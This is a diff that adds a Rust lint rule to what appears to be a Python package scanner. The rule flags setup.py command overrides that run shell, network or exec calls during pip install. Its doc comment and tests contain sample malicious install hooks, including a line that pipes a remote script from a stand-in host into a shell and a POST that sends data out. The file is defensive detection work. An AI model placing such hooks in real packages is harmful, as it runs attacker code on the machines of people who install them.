@@ -1,0 +1,94 @@
+use super::vocab;
+use crate::declare_rule;
+use crate::inspect::rules::{Rule, RuleMeta};
+use crate::inspect::{Analysis, Finding, Role, Severity};
+
+declare_rule! {
+    /// ## What it does
+    /// Finds `setup.py` classes that override the `install`, `develop`,
+    /// `egg_info`, `build_py` or `bdist_*` commands, and reports what their
+    /// methods do: running commands, touching the network, or executing code.
+    ///
+    /// ## Why is this bad?
+    /// A custom command is the classic way to run arbitrary code during
+    /// `pip install`: pip calls it before the user has seen the package.
+    /// Overriding alone is common and harmless; doing I/O there is not.
+    ///
+    /// ## Example
+    /// ```python
+    /// class PostInstall(install):
+    ///     def run(self):
+    ///         os.system("curl http://x.example | sh")   # Error
+    ///         install.run(self)
+    /// class BuildPy(build_py):
+    ///     def run(self):
+    ///         self.run_command("build_ext")           # Low: override only
+    /// ```
+    ///
+    /// ## False positives
+    /// Projects that compile assets or call `git` in a custom command: the
+    /// override itself is `low`; it rises only with network, exec or shell use.
+    InstallHook, id = "install-hook", severity = High,
+    summary = "setup.py overrides install/develop/egg_info commands that run commands, network or exec"
+}
+
+const HOOKED: &[&str] = &["install", "develop", "egg_info", "build_py", "sdist", "bdist_egg", "bdist_wheel", "build", "build_ext", "easy_install"];
+
+impl Rule for InstallHook {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
+        for unit in analysis.units().into_iter().filter(|u| u.file.role == Role::SetupScript) {
+            let code = unit.code;
+            for class in &code.classes {
+                let Some(base) = class.bases.iter().find(|b| HOOKED.contains(&b.rsplit('.').next().unwrap_or(b))) else {
+                    continue;
+                };
+                let base = base.rsplit('.').next().unwrap_or(base);
+                // Calls inside this class's methods: scopes whose function name is one of its methods,
+                // defined after the class line.
+                let scoped = code.calls.iter().filter(|c| {
+                    c.scope != 0
+                        && c.line > class.line
+                        && code.functions.get(c.scope as usize).is_some_and(|f| class.methods.contains(f))
+                });
+                let bad = scoped
+                    .filter(|c| vocab::is_shell(&c.name) || vocab::is_network(&c.name) || vocab::is_exec(&c.name))
+                    .find(|c| !(vocab::is_shell(&c.name) && c.arg_strs.iter().all(|s| vocab::dangerous_command(s).is_none()) && !c.arg_strs.is_empty()));
+                let (severity, message) = match bad {
+                    Some(call) => (Severity::High, format!("custom `{base}` command `{}` calls {}() during pip install", class.name, call.name)),
+                    None if matches!(base, "install" | "develop" | "egg_info") => {
+                        (Severity::Low, format!("custom `{base}` command `{}` runs code during pip install", class.name))
+                    }
+                    None => continue,
+                };
+                out.push(unit.finding(Self::META.id, severity, class.line, message));
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::testing::setup_py;
+
+    #[test]
+    fn fires_on() {
+        let src = "from setuptools.command.install import install\nimport os\nclass P(install):\n    def run(self):\n        os.system('curl http://x | sh')\n        install.run(self)\n";
+        let f = setup_py(&InstallHook, src);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High));
+        let src = "from setuptools.command.develop import develop as d\nimport requests\nclass P(d):\n    def run(self):\n        requests.post('http://x', data='1')\n";
+        assert_eq!(setup_py(&InstallHook, src)[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn quiet_on() {
+        let src = "from setuptools.command.build_py import build_py\nimport subprocess\nclass B(build_py):\n    def run(self):\n        subprocess.check_call(['npm', 'run', 'build'])\n        build_py.run(self)\n";
+        assert!(setup_py(&InstallHook, src).is_empty());
+        let src = "from setuptools.command.install import install\nclass I(install):\n    def run(self):\n        print('thanks')\n        install.run(self)\n";
+        assert!(setup_py(&InstallHook, src).iter().all(|f| f.severity == Severity::Low));
+    }
+}
